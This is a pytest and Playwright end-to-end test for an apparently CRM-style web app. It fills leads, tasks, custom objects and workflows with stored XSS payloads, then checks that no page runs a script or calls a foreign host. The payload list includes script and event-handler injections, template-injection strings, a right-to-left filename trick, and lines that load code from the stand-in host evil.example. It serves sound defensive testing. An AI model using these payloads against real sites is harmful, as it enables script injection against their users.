"""Texts that would be scripts elsewhere are only texts here: no dialog, no breach of the policy, no foreign request."""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.acceptance.api_server import wait_for
from tests.e2e.browser import Towpath

TEXTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script src=//evil.example/x.js></script>',
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "</title><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//evil.example/x.css'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\u202egnp.exe\u202c <b>bold</b>",
    "<object data=data:text/html,<script>alert(1)</script>>",
)


@pytest.fixture(scope="module")
def poisoned(server: Towpath) -> list[str]:
    """The addresses where the texts are shown, after every kind of text has been filled with them."""
    headers = {"Authorization": f"Bearer {server.token}"}
    with httpx.Client(base_url=server.url, headers=headers, timeout=60) as client:
        return poison(client)


def poison(client: httpx.Client) -> list[str]:
    def post(path: str, body: Any) -> Any:
        answer = client.post(path, json=body)
        assert answer.is_success, answer.text
        return answer.json()

    lead = ""
    for text in TEXTS:
        named = {"firstName": text[:90], "lastName": text[:90], "company": text, "description": text}
        lead = post("/api/records/Lead", named)["id"]
        client.patch(f"/api/records/Lead/{lead}", json={"title": text[:90], "source": text[:90]})
        post("/api/records/Task", {"subject": text, "description": text, "status": "Open"})
    odd = {"name": "name", "label": "<script>alert(1)</script>"}
    post(
        "/api/objects",
        {"name": "Odd", "label": "<b>Odd</b>", "plural": "<img src=x onerror=alert(1)>", "fields": [odd]},
    )
    post("/api/records/Odd", {"name": TEXTS[1]})
    definition = {
        "name": "<img src=x onerror=alert(1)>", "description": TEXTS[0],
        "nodes": {"go": {"type": "trigger.manual", "name": TEXTS[2]},
                  "say": {"type": "notify.log", "name": TEXTS[1], "params": {"text": TEXTS[0]}}},
        "edges": {"1": {"source": "go", "target": "say"}},
    }  # fmt: skip
    workflow = post("/api/workflows", {"definition": definition})["workflow"]
    post(f"/api/workflows/{workflow}/runs", {"items": [{"text": each} for each in TEXTS]})
    wait_for(lambda: bool(client.get("/api/runs").json()))
    run = client.get("/api/runs").json()[0]["id"]
    return ["", "records/Lead", f"records/Lead/{lead}", "records/Odd", "tasks?who=all", "runs", f"runs/{run}",
            "workflows", f"workflows/{workflow}", f"measure/{workflow}", "settings/audit"]  # fmt: skip


def test_no_stored_text_becomes_a_script_on_any_page(server: Towpath, page: Page, poisoned: list[str]) -> None:
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    for address in poisoned:
        page.goto(f"{server.url}/app/{address}")
        page.locator("h1").first.wait_for()
        expect(page.locator("main [role=status]")).to_have_count(0)
    page.goto(f"{server.url}/app/tasks?who=all")
    for number in range(3):
        page.locator("main li button").nth(number).click()
    page.keyboard.press("Control+k")
    page.get_by_role("combobox").fill("<script>")
    page.get_by_role("option").first.wait_for()
    assert dialogs == []
    assert [url for url in requests if not url.startswith(server.url)] == []
